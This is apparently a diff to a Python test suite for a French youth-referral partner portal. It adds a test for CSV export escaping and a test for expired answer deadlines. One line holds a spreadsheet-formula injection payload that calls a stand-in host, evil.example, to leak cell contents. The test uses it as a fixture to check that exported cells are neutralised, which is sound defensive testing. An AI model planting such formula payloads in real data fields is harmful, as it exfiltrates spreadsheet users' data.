@@ -5,6 +5,8 @@ revoked by an operator (404), never showing more of a youth than the referral's 
 
 from __future__ import annotations
 
+import csv
+import io
 import subprocess
 import sys
 from datetime import datetime, timedelta
@@ -183,16 +185,28 @@ def referral_ack_url(code: str) -> str:
 
 def test_the_csv_export_lists_every_referral_spreadsheet_safe(client, two_departments):
     path = p.space_path(two_departments["emails"][0])
+    formula = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
+    answered = client.http.post(
+        f"{path}/orientations/{referral_of('59').referral_id}",
+        body=urlencode({"reponse": "accepte", "conseiller_nom": formula}).encode(),
+        headers=p.FORM,
+    )
+    assert answered.status_code == 200
     export = client.http.get(f"{path}/orientations.csv", headers={"Accept": BROWSER_ACCEPT})
     assert export.status_code == 200
     assert export.headers["Content-Type"].startswith("text/csv")
     assert "attachment" in export.headers["Content-Disposition"]
-    text = export.body.decode("utf-8")
-    lines = text.lstrip("\ufeff").strip().splitlines()
-    assert lines[0].startswith("departement;orientation;jeune")
-    assert len(lines) == 3
-    assert "Département 59 (59)" in text and "Département 62 (62)" in text
-    assert "06 12 34 56 78" not in text and "+33612345678" not in text
+    rows = list(
+        csv.DictReader(io.StringIO(export.body.decode("utf-8").lstrip("\ufeff")), delimiter=";")
+    )
+    assert {row["departement"] for row in rows} == {"Département 59 (59)", "Département 62 (62)"}
+    [accepted] = [row for row in rows if row["etat"] == "Acceptée"]
+    assert accepted["conseiller_nom"] == "'" + formula  # text, never a formula
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+    assert (
+        "06 12 34 56 78" not in export.body.decode() and "+33612345678" not in export.body.decode()
+    )
 
 
 def test_a_tampered_or_unknown_link_gets_the_ack_pages_404(client, two_departments):
@@ -318,3 +332,16 @@ def test_sending_a_referral_email_renews_the_space_within_three_dynamodb_request
     [stored] = list(PartnerSpace.scan())
     assert stored.partner_key == "mission_locale#ML59A"
     assert stored.renewed_at.startswith(now.date().isoformat())
+
+
+def test_a_referral_past_its_own_answer_delay_is_shown_without_its_form(client, two_departments):
+    token = p.space_path(two_departments["emails"][0]).rsplit("/", 1)[1]
+    referral = referral_of("59")
+    later = clock.clock_from(today() + timedelta(days=61), None)  # ack_ttl_days: 60
+    listed = space.view(token, None, later)
+    assert listed.status == 200  # the space itself is valid 90 days
+    assert "Le délai pour répondre à cette orientation est dépassé" in listed.html
+    assert 'action="/partenaires/' not in listed.html
+    late = space.answer(token, referral.referral_id, {"reponse": "refuse"}, later, same_origin=True)
+    assert late.status == 410
+    assert Referral.get(referral.referral_id).answer is None
